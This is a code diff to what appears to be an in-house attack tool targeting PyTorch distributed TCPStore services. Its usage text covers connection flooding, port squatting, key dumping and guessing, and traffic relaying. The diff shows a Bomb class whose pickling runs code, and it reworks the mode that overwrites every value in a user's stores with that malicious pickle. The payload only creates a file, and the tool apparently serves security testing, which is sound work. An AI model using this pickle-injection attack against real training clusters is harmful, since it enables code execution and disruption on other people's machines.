@@ -6,9 +6,8 @@ python -m contrib.attack.hands.strangers WHAT HOST PORTS [SECONDS] [MORE]
     bytes     send random bytes without an end, on 4 connections
     squat     listen on the ports, and answer nothing
     keys      list the keys of a torch TCPStore, and print them with their values as JSON
-    pickle    replace every value of a torch TCPStore by a pickle that creates the file MORE
-    pickles   the same again and again, in each such store of the user in MORE (JSON: uid, file); then print what was
-              there
+    pickles   replace every value of each torch TCPStore of the user in MORE (JSON: uid, file) by a pickle that creates
+              the file, again and again; then print what was there
     guess     greet with each of the guessed keys in MORE (JSON), for purpose "ranks" and "launchers"
     find      print the ports on which the user MORE (a uid) listens, by kind of address
     relay     listen on the first port, pass all on to the second, and print what the client sent
@@ -94,16 +93,6 @@ class Bomb:
 
     def __reduce__(self) -> tuple[Any, ...]:
         return (open, (self._path, "w"))
-
-
-def leave_pickles(host: str, port: int, path: str) -> int:
-    import torch.distributed as dist  # noqa: PLC0415 - the others need no torch
-
-    store = dist.TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=30))
-    names = [str(key) for key in store.list_keys()]
-    for name in names:
-        store.set(name, pickle.dumps(Bomb(path)))
-    return len(names)
 
 
 def leave_pickles_everywhere(host: str, uid: str, path: str, seconds: float) -> dict[str, str]:
@@ -193,8 +182,6 @@ def main() -> None:
             squat(ports, seconds)
         case "keys":
             print(json.dumps(keys(host, ports[0])))
-        case "pickle":
-            print(leave_pickles(host, ports[0], more))
         case "pickles":
             uid, path = json.loads(more)
             print(json.dumps(leave_pickles_everywhere(host, uid, path, seconds)), flush=True)
